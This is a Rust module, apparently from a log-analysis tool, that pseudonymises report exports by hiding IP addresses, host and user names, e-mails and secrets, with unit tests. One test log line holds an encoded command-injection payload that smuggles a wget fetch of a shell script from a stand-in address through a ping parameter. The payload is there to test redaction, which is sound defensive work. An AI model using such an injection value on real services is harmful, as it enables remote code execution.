//! Pseudonymised reports: findings that can travel without the addresses, host and user
//! names and secrets they came from.
//!
//! Every text that leaves the engine in a pseudonymised export (each finding's client and
//! description, the first rows, rejected samples, field names, evidence lines, the file's
//! name) goes through [`Pseudonymizer`], in two steps: first every text is read for the
//! names it puts in known places ([`Pseudonymizer::learn`]), then every text is hidden
//! ([`Pseudonymizer::text`]), so a name one line reveals is hidden in all of them.
//!
//! - **Addresses**, anywhere in any text: IPv4, IPv6 in every spelling (compressed,
//!   IPv4-mapped `::ffff:203.0.113.9`, with a zone `fe80::1%eth0`, in brackets, with a
//!   port), dots written `[.]` or `(dot)`, and inside escapes: a run holding `%2E`,
//!   `%252E`, `\x2e` or `&#46;` is decoded, hidden and encoded again.
//! - **User and host names** where logs put them (sshd, PAM, sudo, Cowrie, an access
//!   line's client, ident and user, syslog's host, a URL's host, `host=` and `user=`
//!   keys), then wherever such a name appears again as a word, unless it is a name every
//!   system has (`root`, `admin`, `api`: hidden where it names a user, kept in a path).
//!   Any dotted word ending in a known top-level domain is a host name.
//! - **Secrets**: e-mail addresses, the values of query parameters that hold secrets
//!   (`token`, `key`, `password`, `session`, `sig`…), credentials in URLs (`//user:pass@`),
//!   bearer tokens and JWTs become `REDACTED`.
//!
//! Pseudonyms cannot be taken for real hosts: `ip-3fa2c1`, `ip6-…`, `host-…`, `user-…`,
//! the same within a report, never two for one identifier nor one for two. They come from
//! SipHash-2-4 keyed with a 128-bit secret the caller draws, so nobody without it can
//! rebuild the mapping by hashing every address. The caller may instead ask for addresses
//! in the documentation ranges (readable as addresses by tools) or cut to their network
//! as GoAccess does (IPv4 /24, IPv6 /48). When unsure whether something is an address or
//! a name, it is replaced: a payload with one word too many hidden still reads as an
//! attack; one leaked address cannot be taken back.

mod encoded;
mod names;
mod patterns;

use crate::finding::Finding;
use crate::line_collector::NumberedLine;
use crate::report::{Report, RequestRow};
use names::{NOT_USER_NAMES, is_common_name, is_dotted_host};
use patterns::{ADDRESS, IPV4, NameKind, PLACED_NAMES, SECRET, WORD};
use regex::Captures;
use siphasher::sip128::{Hasher128, SipHasher24};
use std::collections::{HashMap, HashSet};
use std::hash::Hasher;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// How identifiers are hidden.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub enum PseudonymMode {
    /// Keyed pseudonyms that read as what they are: `ip-3fa2c1`, `host-…`, `user-…`.
    Keyed([u8; 16]),
    /// Addresses as addresses in the documentation ranges (IPv4 192.0.2.0/24,
    /// 198.51.100.0/24 and 203.0.113.0/24, then `ip-…` once those 768 are used; IPv6
    /// 2001:db8::/32); names as in `Keyed`.
    Documentation([u8; 16]),
    /// Addresses cut to their network (IPv4 /24, IPv6 /48); names as in `Keyed`.
    Truncated([u8; 16]),
}

/// One part of the hiding. Parts can be switched off only so that a test can show it
/// notices each one missing.
#[doc(hidden)]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HidingPart {
    Addresses,
    MappedAddresses,
    Escapes,
    PlacedNames,
    KnownNames,
    DottedHosts,
    Secrets,
    SourceName,
}

/// Replaces identifiers and secrets consistently across one report.
#[derive(Debug)]
pub struct Pseudonymizer {
    mode: PseudonymMode,
    /// Each identifier met (addresses in their canonical form) and its pseudonym.
    assigned: HashMap<String, String>,
    taken: HashSet<String>,
    /// Names met where logs put names: replaced wherever they stand as words.
    known: HashMap<String, NameKind>,
    off: Vec<HidingPart>,
}

/// The documentation ranges' three IPv4 networks (RFC 5737).
const DOCUMENTATION_V4: [[u8; 3]; 3] = [[192, 0, 2], [198, 51, 100], [203, 0, 113]];

/// The shortest name hidden wherever it appears, not only where a log names it.
const MIN_KNOWN_NAME: usize = 3;

/// The longest run of a word's parts checked as one known name (`bastion-eu1` in
/// `bastion-eu1.internal`).
const MAX_NAME_PARTS: usize = 8;

impl Pseudonymizer {
    /// A pseudonymizer with this mode (and secret).
    pub fn new(mode: PseudonymMode) -> Self {
        Self {
            mode,
            assigned: HashMap::new(),
            taken: HashSet::new(),
            known: HashMap::new(),
            off: Vec::new(),
        }
    }

    /// The same, with one part of the hiding switched off: for tests only.
    #[doc(hidden)]
    #[must_use]
    pub fn without(mut self, part: HidingPart) -> Self {
        self.off.push(part);
        self
    }

    fn on(&self, part: HidingPart) -> bool {
        !self.off.contains(&part)
    }

    fn key(&self) -> [u8; 16] {
        match self.mode {
            PseudonymMode::Keyed(key)
            | PseudonymMode::Documentation(key)
            | PseudonymMode::Truncated(key) => key,
        }
    }

    /// A keyed 128-bit digest of `text`, with a counter to step past collisions.
    fn digest(&self, text: &str, attempt: u32) -> u128 {
        let mut hasher = SipHasher24::new_with_key(&self.key());
        hasher.write(text.as_bytes());
        hasher.write_u32(attempt);
        hasher.finish128().as_u128()
    }

    /// A fresh `prefix-` and hex digits for `original`: six digits, more once six have
    /// collided a few times.
    fn fresh(&self, original: &str, prefix: &str) -> String {
        (0..)
            .map(|attempt| {
                let bits = self.digest(original, attempt);
                if attempt < 8 {
                    format!("{prefix}-{:06x}", bits & 0xff_ffff)
                } else {
                    format!("{prefix}-{:016x}", bits as u64)
                }
            })
            .find(|candidate| !self.taken.contains(candidate))
            .unwrap_or_default()
    }

    fn remember(&mut self, original: String, pseudonym: String) -> String {
        self.taken.insert(pseudonym.clone());
        self.assigned.insert(original, pseudonym.clone());
        pseudonym
    }

    /// The pseudonym of one identifier, a report's client: an address (with or without
    /// brackets, port or zone), a host or user name, or a text holding some.
    pub fn identifier(&mut self, original: &str) -> String {
        if original.is_empty() || original == "-" || self.taken.contains(original) {
            return original.to_owned();
        }
        if let Some(address) = address_of_client(original) {
            return self.address(address);
        }
        if WORD
            .find(original)
            .is_some_and(|m| m.len() == original.len())
        {
            return self.name(original, NameKind::Host);
        }
        self.text(original)
    }

    /// The pseudonym of an address; an IPv4-mapped IPv6 address is its IPv4 address.
    fn address(&mut self, address: IpAddr) -> String {
        let address = match address {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(address, IpAddr::V4),
            v4 => v4,
        };
        let canonical = address.to_string();
        if let Some(done) = self.assigned.get(&canonical) {
            return done.clone();
        }
        // A pseudonym in the documentation ranges, met again by a later pattern.
        if self.taken.contains(&canonical) {
            return canonical;
        }
        let pseudonym = match (self.mode, address) {
            (PseudonymMode::Truncated(_), _) => truncated(address),
            (PseudonymMode::Documentation(_), IpAddr::V4(_)) => self
                .documentation_v4(&canonical)
                .unwrap_or_else(|| self.fresh(&canonical, "ip")),
            (PseudonymMode::Documentation(_), IpAddr::V6(_)) => {
                let low = self.digest(&canonical, 0) & ((1u128 << 96) - 1);
                Ipv6Addr::from((0x2001_0db8u128 << 96) | low).to_string()
            }
            (PseudonymMode::Keyed(_), IpAddr::V4(_)) => self.fresh(&canonical, "ip"),
            (PseudonymMode::Keyed(_), IpAddr::V6(_)) => self.fresh(&canonical, "ip6"),
        };
        self.remember(canonical, pseudonym)
    }

    /// A free address in the IPv4 documentation ranges, if one is found in a few tries.
    fn documentation_v4(&self, canonical: &str) -> Option<String> {
        (0..64).find_map(|attempt| {
            let bits = self.digest(canonical, attempt);
            let [a, b, c] = DOCUMENTATION_V4[(bits % 3) as usize];
            let candidate = Ipv4Addr::new(a, b, c, (bits >> 8) as u8).to_string();
            (!self.taken.contains(&candidate)).then_some(candidate)
        })
    }

    /// The pseudonym of a host or user name, which is then hidden wherever it appears as
    /// a word (unless every system has it).
    fn name(&mut self, name: &str, kind: NameKind) -> String {
        if self.taken.contains(name) {
            return name.to_owned();
        }
        if let Some(address) = address_of_client(name) {
            return self.address(address);
        }
        self.know(name, kind);
        if let Some(done) = self.assigned.get(name) {
            return done.clone();
        }
        let prefix = match kind {
            NameKind::User => "user",
            NameKind::Host => "host",
        };
        let pseudonym = self.fresh(name, prefix);
        self.remember(name.to_owned(), pseudonym)
    }

    /// Notes `name` as one to hide wherever it appears as a word: not a name every system
    /// has, nor one or two characters (`x` in `host=x` would take every `x` with it).
    fn know(&mut self, name: &str, kind: NameKind) {
        if self.on(HidingPart::KnownNames)
            && name.len() >= MIN_KNOWN_NAME
            && !is_common_name(name)
            && !self.known.contains_key(name)
        {
            self.known.insert(name.to_owned(), kind);
        }
    }

    /// Reads `text` for the names it puts in known places, to hide them in every text
    /// later; hides nothing itself.
    pub fn learn(&mut self, text: &str) {
        if !self.on(HidingPart::PlacedNames) {
            return;
        }
        let decoded_text;
        let mut texts = vec![text];
        if self.on(HidingPart::Escapes) && encoded::has_escape(text) {
            decoded_text = encoded::decoded(text);
            texts.push(&decoded_text);
        }
        for text in texts {
            for (kind, pattern) in PLACED_NAMES.iter() {
                for caps in pattern.captures_iter(text) {
                    for name in placed_names(&caps) {
                        if is_name(name, *kind) && address_of_client(name).is_none() {
                            self.know(name, *kind);
                        }
                    }
                }
            }
        }
    }

    /// `text` with every address, named user and host, e-mail and secret replaced.
    pub fn text(&mut self, text: &str) -> String {
        let mut out = if self.on(HidingPart::Secrets) {
            SECRET.replace_all(text, redacted).into_owned()
        } else {
            text.to_owned()
        };
        if self.on(HidingPart::Escapes) && encoded::has_escape(&out) {
            out = encoded::ESCAPED_RUN
                .replace_all(&out, |caps: &Captures<'_>| {
                    let run = &caps[0];
                    if !encoded::has_escape(run) {
                        return run.to_owned();
                    }
                    let decoded = encoded::decoded(run);
                    let hidden = self.plain(&decoded);
                    if hidden == decoded {
                        run.to_owned()
                    } else {
                        encoded::reencoded(&hidden)
                    }
                })
                .into_owned();
        }
        self.plain(&out)
    }

    /// `text`, without escapes to look into, with names and addresses replaced.
    fn plain(&mut self, text: &str) -> String {
        let mut out = text.to_owned();
        if self.on(HidingPart::PlacedNames) {
            for (kind, pattern) in PLACED_NAMES.iter() {
                out = pattern
                    .replace_all(&out, |caps: &Captures<'_>| self.placed(caps, *kind))
                    .into_owned();
            }
        }
        if self.on(HidingPart::Addresses) {
            out = ADDRESS
                .replace_all(&out, |caps: &Captures<'_>| self.found_address(caps))
                .into_owned();
            // Fail closed: an IPv4 address that began inside a longer match (the end of
            // a time, `14:39:3172.31.98.241`) is still in the text.
            if self.on(HidingPart::MappedAddresses) {
                out = IPV4
                    .replace_all(&out, |caps: &Captures<'_>| self.found_ipv4(&caps[0]))
                    .into_owned();
            }
        }
        WORD.replace_all(&out, |caps: &Captures<'_>| self.word(&caps[0]))
            .into_owned()
    }

    /// One match of a placed-name pattern, its names replaced.
    fn placed(&mut self, caps: &Captures<'_>, kind: NameKind) -> String {
        let whole = caps.get(0).map_or(0..0, |m| m.range());
        let text = &caps[0];
        let Some(span) = caps.name("name").or_else(|| caps.name("list")) else {
            return text.to_owned();
        };
        let (start, end) = (span.start() - whole.start, span.end() - whole.start);
        let replaced: Vec<String> = placed_names(caps)
            .into_iter()
            .map(|name| {
                if is_name(name, kind) {
                    self.name(name, kind)
                } else {
                    name.to_owned()
                }
            })
            .collect();
        format!("{}{}{}", &text[..start], replaced.join(", "), &text[end..])
    }

    /// One match of [`ADDRESS`]: its address replaced, if it holds one.
    fn found_address(&mut self, caps: &Captures<'_>) -> String {
        if let Some(v4) = caps.name("v4") {
            return self.found_ipv4(v4.as_str());
        }
        let found = &caps[0];
        let without_zone = found.split('%').next().unwrap_or(found);
        let tail = IPV4
            .find(without_zone)
            .filter(|m| m.end() == without_zone.len());
        let parsed = match tail {
            Some(tail) => ipv4_of(tail.as_str()).and_then(|v4| {
                format!("{}{v4}", &without_zone[..tail.start()])
                    .parse::<Ipv6Addr>()
                    .ok()
            }),
            None => without_zone.parse::<Ipv6Addr>().ok(),
        };
        let hex_digits = without_zone.bytes().filter(u8::is_ascii_hexdigit).count();
        match parsed {
            Some(_) if tail.is_some() && !self.on(HidingPart::MappedAddresses) => {
                let tail = tail.map_or(0, |m| m.start());
                let head = without_zone[..tail].trim_end_matches(':');
                match head.parse::<Ipv6Addr>() {
                    Ok(address) => format!(
                        "{}:{}",
                        self.address(IpAddr::V6(address)),
                        &without_zone[tail..]
                    ),
                    Err(_) => found.to_owned(),
                }
            }
            Some(address) if tail.is_some() || hex_digits >= 3 => self.address(IpAddr::V6(address)),
            // Not an address (a time, `std::`), but an address may begin inside it
            // (`14:39:2001:db8::1`): looked for again from its next character.
            _ => match found.char_indices().nth(1) {
                Some((next, _)) => {
                    let rest = ADDRESS
                        .replace_all(&found[next..], |caps: &Captures<'_>| {
                            self.found_address(caps)
                        })
                        .into_owned();
                    format!("{}{rest}", &found[..next])
                }
                None => found.to_owned(),
            },
        }
    }

    /// An IPv4 address found on its own, replaced unless it is a pseudonym already.
    fn found_ipv4(&mut self, found: &str) -> String {
        match ipv4_of(found) {
            Some(address) => self.address(IpAddr::V4(address)),
            None => found.to_owned(),
        }
    }

    /// A word: replaced when it is a dotted host name or holds a known name.
    fn word(&mut self, word: &str) -> String {
        if self.taken.contains(word) {
            return word.to_owned();
        }
        let bare = word.trim_end_matches(['.', '-', '_']);
        if self.on(HidingPart::DottedHosts) && is_dotted_host(bare) {
            return format!("{}{}", self.name(bare, NameKind::Host), &word[bare.len()..]);
        }
        if self.known.is_empty() {
            return word.to_owned();
        }
        if let Some(&kind) = self.known.get(word) {
            return self.name(word, kind);
        }
        self.known_parts_replaced(word)
    }

    /// `word` with each run of its parts (split at `.`, `-`, `_`) that is a known name
    /// replaced, longest first: `bastion-eu1` in `bastion-eu1.internal`.
    fn known_parts_replaced(&mut self, word: &str) -> String {
        let mut starts = vec![0];
        let mut ends = Vec::new();
        for (at, byte) in word.bytes().enumerate() {
            if matches!(byte, b'.' | b'-' | b'_') {
                ends.push(at);
                starts.push(at + 1);
            }
        }
        ends.push(word.len());
        let mut out = String::with_capacity(word.len());
        let mut part = 0;
        let mut copied_to = 0;
        while part < starts.len() {
            let longest = (part..ends.len().min(part + MAX_NAME_PARTS))
                .rev()
                .find_map(|last| {
                    let span = &word[starts[part]..ends[last]];
                    self.known.get(span).map(|&kind| (last, kind))
                });
            match longest {
                Some((last, kind)) => {
                    out.push_str(&word[copied_to..starts[part]]);
                    let span = word[starts[part]..ends[last]].to_owned();
                    out.push_str(&self.name(&span, kind));
                    copied_to = ends[last];
                    part = last + 1;
                }
                None => part += 1,
            }
        }
        out.push_str(&word[copied_to..]);
        out
    }

    /// The name of the file a report came from, replaced by a pseudonym that keeps only
    /// its kind (`file-3fa2c1.log`).
    pub fn source_name(&mut self, name: &str) -> String {
        if !self.on(HidingPart::SourceName) {
            return name.to_owned();
        }
        let file_name = name.rsplit(['/', '\\']).next().unwrap_or(name);
        let extension = file_name
            .rsplit_once('.')
            .map(|(_, ext)| ext)
            .filter(|ext| {
                (1..=4).contains(&ext.len()) && ext.bytes().all(|b| b.is_ascii_alphanumeric())
            });
        let pseudonym = self.fresh(name, "file");
        match extension {
            Some(ext) => format!("{pseudonym}.{ext}"),
            None => pseudonym,
        }
    }

    /// Reads every text of `report` and `lines` for names, then returns the report with
    /// each of them hidden and hides the lines: the one pass an export needs.
    pub fn export(&mut self, report: &Report, lines: &mut [NumberedLine]) -> Report {
        self.learn_report(report);
        for line in lines.iter() {
            self.learn(&line.text);
        }
        let hidden = self.hidden_report(report);
        for line in lines.iter_mut() {
            line.text = self.text(&line.text);
        }
        hidden
    }

    /// A copy of `report` with every client, description, shown line and sample
    /// pseudonymised; figures and line numbers unchanged.
    pub fn report(&mut self, report: &Report) -> Report {
        self.export(report, &mut [])
    }

    fn learn_report(&mut self, report: &Report) {
        let clients = report
            .findings
            .iter()
            .map(|f| &f.client)
            .chain(report.first_rows.iter().map(|r| &r.client));
        let names: Vec<String> = clients
            .filter(|client| address_of_client(client).is_none())
            .filter(|client| WORD.find(client).is_some_and(|m| m.len() == client.len()))
            .cloned()
            .collect();
        for name in names {
            self.know(&name, NameKind::Host);
        }
        for text in report_texts(report) {
            self.learn(text);
        }
    }

    fn hidden_report(&mut self, report: &Report) -> Report {
        let mut out = report.clone();
        for finding in &mut out.findings {
            self.hide_finding(finding);
        }
        for row in &mut out.first_rows {
            self.row(row);
        }
        for sample in &mut out.rejects.samples {
            sample.text = self.text(&sample.text);
        }
        for field in &mut out.extra_fields {
            field.name = self.text(&field.name);
        }
        for label in &mut out.labels {
            label.label = self.text(&label.label);
        }
        if let Some(baseline) = &mut out.baseline {
            baseline.name = self.text(&baseline.name);
        }
        out.ground_truth = Default::default();
        out
    }

    /// A copy of one finding, pseudonymised: for a report written a finding at a time
    /// (`--follow`), with the mapping of the findings before it.
    pub fn finding(&mut self, finding: &Finding) -> Finding {
        let mut out = finding.clone();
        self.learn(&out.description);
        self.hide_finding(&mut out);
        out
    }

    fn hide_finding(&mut self, finding: &mut Finding) {
        finding.client = self.identifier(&finding.client);
        finding.description = self.text(&finding.description);
        for contribution in &mut finding.contributions {
            contribution.feature = self.text(&contribution.feature);
        }
    }

    fn row(&mut self, row: &mut RequestRow) {
        row.client = self.identifier(&row.client);
        row.target = self.text(&row.target);
        row.method = self.text(&row.method);
        row.user_agent = row.user_agent.as_deref().map(|agent| self.text(agent));
        row.extra = row.extra.as_deref().map(|extra| self.text(extra));
    }
}

/// Every free text of a report, to learn names from.
fn report_texts(report: &Report) -> impl Iterator<Item = &str> {
    let findings = report.findings.iter().flat_map(|f| {
        std::iter::once(f.description.as_str())
            .chain(f.contributions.iter().map(|c| c.feature.as_str()))
    });
    let rows = report.first_rows.iter().flat_map(|r| {
        [r.target.as_str(), r.method.as_str()]
            .into_iter()
            .chain(r.user_agent.as_deref())
            .chain(r.extra.as_deref())
    });
    findings
        .chain(rows)
        .chain(report.rejects.samples.iter().map(|s| s.text.as_str()))
        .chain(report.extra_fields.iter().map(|f| f.name.as_str()))
}

/// The names one match of a placed-name pattern holds.
fn placed_names<'t>(caps: &Captures<'t>) -> Vec<&'t str> {
    if let Some(name) = caps.name("name") {
        return vec![name.as_str()];
    }
    caps.name("list")
        .map(|list| list.as_str().split(", ").collect())
        .unwrap_or_default()
}

/// Whether a word found where a name goes is one (not "user agent", not `-`).
fn is_name(name: &str, kind: NameKind) -> bool {
    // Empty too: every byte of "" is a digit.
    let numeric = name.bytes().all(|b| b.is_ascii_digit());
    let a_word = kind == NameKind::User && NOT_USER_NAMES.contains(&name);
    !(numeric || name == "-" || a_word)
}

/// The address a client field holds: bare, `[v6]`, `[v6]:port`, `v4:port`, `v6%zone`.
fn address_of_client(client: &str) -> Option<IpAddr> {
    if let Ok(address) = client.parse::<IpAddr>() {
        return Some(address);
    }
    if let Ok(socket) = client.parse::<std::net::SocketAddr>() {
        return Some(socket.ip());
    }
    let bare = client.trim_start_matches('[');
    let bare = bare.split(']').next().unwrap_or(bare);
    let bare = bare.split('%').next().unwrap_or(bare);
    bare.parse::<IpAddr>().ok()
}

/// The IPv4 address of a match of [`IPV4`], whatever its dots and leading zeros.
fn ipv4_of(text: &str) -> Option<Ipv4Addr> {
    let mut octets = [0u8; 4];
    let mut numbers = text
        .split(|c: char| !c.is_ascii_digit())
        .filter(|part| !part.is_empty());
    for octet in &mut octets {
        let digits = numbers.next()?.trim_start_matches('0');
        *octet = if digits.is_empty() {
            0
        } else {
            digits.parse().ok()?
        };
    }
    Some(Ipv4Addr::from(octets))
}

/// A secret's replacement.
fn redacted(caps: &Captures<'_>) -> String {
    if let Some(param) = caps.name("param") {
        format!("{}REDACTED", param.as_str())
    } else if let Some(scheme) = caps.name("scheme") {
        format!("{}REDACTED@", scheme.as_str())
    } else if let Some(bearer) = caps.name("bearer") {
        format!("{}REDACTED", bearer.as_str())
    } else if caps.name("email").is_some() {
        "REDACTED@REDACTED".to_owned()
    } else {
        "REDACTED".to_owned()
    }
}

/// An address cut to its network: IPv4 /24, IPv6 /48.
fn truncated(address: IpAddr) -> String {
    match address {
        IpAddr::V4(v4) => {
            let [a, b, c, _] = v4.octets();
            Ipv4Addr::new(a, b, c, 0).to_string()
        }
        IpAddr::V6(v6) => {
            let bits = u128::from(v6) & !((1u128 << 80) - 1);
            Ipv6Addr::from(bits).to_string()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: [u8; 16] = *b"0123456789abcdef";

    fn keyed() -> Pseudonymizer {
        Pseudonymizer::new(PseudonymMode::Keyed(KEY))
    }

    #[test]
    fn pseudonyms_say_what_they_are_and_stay_the_same() {
        let mut p = keyed();
        let v4 = p.identifier("203.0.113.9");
        assert!(v4.starts_with("ip-") && v4.len() == 9, "{v4}");
        assert_eq!(p.identifier("203.0.113.9"), v4);
        assert_ne!(p.identifier("203.0.113.10"), v4);
        assert!(p.identifier("2001:4860::8888").starts_with("ip6-"));
        assert!(p.identifier("crawler.example.com").starts_with("host-"));
        // Another key, other pseudonyms: they cannot be rebuilt without the key.
        let mut other = Pseudonymizer::new(PseudonymMode::Keyed(*b"fedcba9876543210"));
        assert_ne!(other.identifier("203.0.113.9"), v4);
    }

    #[test]
    fn no_two_addresses_share_a_pseudonym() {
        let mut p = keyed();
        let pseudonyms: HashSet<String> = (0..20_000u32)
            .map(|i| p.identifier(&Ipv4Addr::from(0xC000_0000 + i).to_string()))
            .collect();
        assert_eq!(pseudonyms.len(), 20_000);
    }

    #[test]
    fn documentation_ranges_hold_as_many_as_they_can() {
        let mut p = Pseudonymizer::new(PseudonymMode::Documentation(KEY));
        let first = p.identifier("8.8.8.8");
        assert!(
            ["192.0.2.", "198.51.100.", "203.0.113."]
                .iter()
                .any(|net| first.starts_with(net)),
            "{first}"
        );
        assert!(p.identifier("2001:4860::8888").starts_with("2001:db8:"));
        let all: HashSet<String> = (0..2_000u32)
            .map(|i| p.identifier(&Ipv4Addr::from(0x0A00_0000 + i).to_string()))
            .collect();
        assert_eq!(all.len(), 2_000, "no two share one, past the 768");
    }

    #[test]
    fn a_documentation_pseudonym_is_not_hidden_again() {
        let mut p = Pseudonymizer::new(PseudonymMode::Documentation(KEY));
        let line = "Failed password for root from 8.8.4.4 port 22 ssh2";
        let first = p.text(line);
        assert_eq!(p.text(line), first);
        let pseudonym = p.identifier("8.8.4.4");
        assert!(
            first.contains(&format!("from {pseudonym} port")),
            "{first} / {pseudonym}"
        );
    }

    #[test]
    fn truncation_keeps_the_network() {
        let mut p = Pseudonymizer::new(PseudonymMode::Truncated(KEY));
        assert_eq!(p.identifier("203.0.113.9"), "203.0.113.0");
        assert_eq!(p.identifier("2001:4860:1234:5678::1"), "2001:4860:1234::");
        assert_eq!(p.identifier("::ffff:203.0.113.9"), "203.0.113.0");
    }

    #[test]
    fn every_spelling_of_an_address_is_one_address() {
        let mut p = keyed();
        let plain = p.identifier("203.0.113.9");
        for spelling in [
            "::ffff:203.0.113.9",
            "[::ffff:203.0.113.9]:443",
            "203.0.113.9:8080",
            "203[.]0[.]113[.]9",
            "203%2E0%2E113%2E9",
            "203%252e0%252e113%252e9",
            r"203\x2e0\x2e113\x2e9",
            "203&#46;0&#46;113&#46;9",
        ] {
            let out = p.text(&format!("from {spelling} now"));
            assert!(out.contains(&plain), "{spelling}: {out}");
            assert!(!out.contains("113"), "{spelling}: {out}");
        }
        for text in [
            "a:b:203.0.113.44",
            "GET /?ip=::ffff:203.0.113.44",
            "x2F203.0.113.44",
        ] {
            let out = p.text(text);
            assert!(!out.contains("113.44") && !out.contains("203"), "{out}");
        }
        let v6 = p.identifier("2001:db8:85a3::8a2e:370:7334");
        for spelling in [
            "[2001:db8:85a3::8a2e:370:7334]:443",
            "2001:DB8:85A3:0:0:8A2E:370:7334",
            "2001:db8:85a3::8a2e:370:7334%eth0",
            "2001%3Adb8%3A85a3%3A%3A8a2e%3A370%3A7334",
        ] {
            let out = p.text(spelling);
            assert!(
                out.contains(&v6) && !out.contains("7334"),
                "{spelling}: {out}"
            );
        }
    }

    #[test]
    fn an_address_that_begins_inside_a_time_is_still_found() {
        // From the fuzzer: a time run into an address.
        let mut p = keyed();
        let out = p.text("Feb  4 14:39:3172.31.98.241 - - [24/Aug/2015 10:39:14]");
        assert!(!out.contains("172.31.98.241"), "{out}");
        let out = p.text("at 14:39:2001:db8:85a3::8a2e:370:7334 up");
        assert!(!out.contains("8a2e:370:7334"), "{out}");
    }

    #[test]
    fn times_and_code_are_not_addresses() {
        let mut p = keyed();
        for text in [
            "Mar 11 03:12:44 sshd",
            "2024-06-01T10:00:00+01:00",
            "std::string::npos",
            "version 1.2.3 build 7",
        ] {
            assert_eq!(p.text(text), text);
        }
    }

    #[test]
    fn host_names_are_hidden_where_logs_put_them_and_wherever_they_reappear() {
        let mut p = keyed();
        let mut lines: Vec<NumberedLine> = [
            "Mar 11 03:12:44 bastion-eu1 sshd[42]: Failed password for invalid user oracle from attacker.host.example port 52144 ssh2",
            "Mar 11 03:12:45 bastion-eu1 sshd[42]: pam_unix(sshd:auth): authentication failure; rhost=scanner uid=0",
            r#"scanner - - [11/Mar/2024:10:00:00 +0100] "GET /admin/ HTTP/1.1" 404 5 "http://crawler.example.net/x" "x""#,
            "backup of bastion-eu1.internal done by scanner",
        ]
        .iter()
        .enumerate()
        .map(|(i, text)| NumberedLine { line_no: i as u64 + 1, text: (*text).to_owned(), cut: false })
        .collect();
        p.export(&Report::default(), &mut lines);
        let all: Vec<&str> = lines.iter().map(|l| l.text.as_str()).collect();
        let all = all.join("\n");
        for identity in [
            "bastion-eu1",
            "attacker.host.example",
            "scanner",
            "crawler.example.net",
            "oracle",
        ] {
            assert!(!all.contains(identity), "{identity} in {all}");
        }
        // Meaning stays: the attack, the path and the time.
        assert!(
            all.contains("GET /admin/ HTTP/1.1") && all.contains("Mar 11 03:12:44 host-"),
            "{all}"
        );
        assert!(
            all.contains("Failed password for invalid user user-"),
            "{all}"
        );
    }

    #[test]
    fn common_account_names_are_hidden_as_users_but_kept_in_paths() {
        let mut p = keyed();
        let out = p.text("Invalid user admin from 192.0.2.1 port 22");
        assert!(
            !out.contains("admin") && out.contains("user user-"),
            "{out}"
        );
        assert_eq!(p.text("GET /admin/login.php"), "GET /admin/login.php");
    }

    #[test]
    fn text_loses_users_emails_and_secrets() {
        let mut p = keyed();
        let access = r#"198.51.100.4 - j.miller [11/Mar/2024:10:00:00 +0100] "GET /reset?email=j.miller@example.org&token=abc123&page=2 HTTP/1.1" 200 5 "https://bob:hunter2@intra.example/" "x""#;
        let out = p.text(access);
        for secret in [
            "198.51.100.4",
            "j.miller",
            "abc123",
            "hunter2",
            "bob:",
            "intra.example",
        ] {
            assert!(!out.contains(secret), "{secret} in {out}");
        }
        assert!(
            out.contains("token=REDACTED") && out.contains("page=2"),
            "{out}"
        );
        let encoded = p.text("GET /ping?host=x%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh");
        assert!(
            !encoded.contains("198.51.100.9") && encoded.contains("wget"),
            "{encoded}"
        );
        let sudo = "Mar 11 10:00:00 web1 sudo[7]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id";
        let out = p.text(sudo);
        assert!(
            !out.contains("alice") && !out.contains("USER=root"),
            "{out}"
        );
        let pam = "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)";
        assert!(!p.text(pam).contains("deploy"));
        // A name met once is hidden in later text too, but not inside other words.
        let later = p.text("backup of /home/deploy by cron; deployment done");
        assert!(
            !later.contains("/home/deploy ") && later.contains("deployment"),
            "{later}"
        );
        assert!(
            p.text("Authorization: Bearer abcdefghijklmnop")
                .ends_with("Bearer REDACTED")
        );
    }

    #[test]
    fn many_names_cost_no_more_than_their_number() {
        let mut p = keyed();
        for i in 0..50_000 {
            let out = p.text(&format!("Invalid user name{i}x from 192.0.2.1 port 22"));
            assert!(!out.contains(&format!("name{i}x")));
        }
        assert!(!p.text("later: name49999x and name7x").contains("name7x"));
    }

    #[test]
    fn the_source_file_name_goes_too() {
        let mut p = keyed();
        let name = p.source_name("/var/log/acme-prod/access.log");
        assert!(
            name.starts_with("file-") && name.ends_with(".log") && !name.contains("acme"),
            "{name}"
        );
    }
}
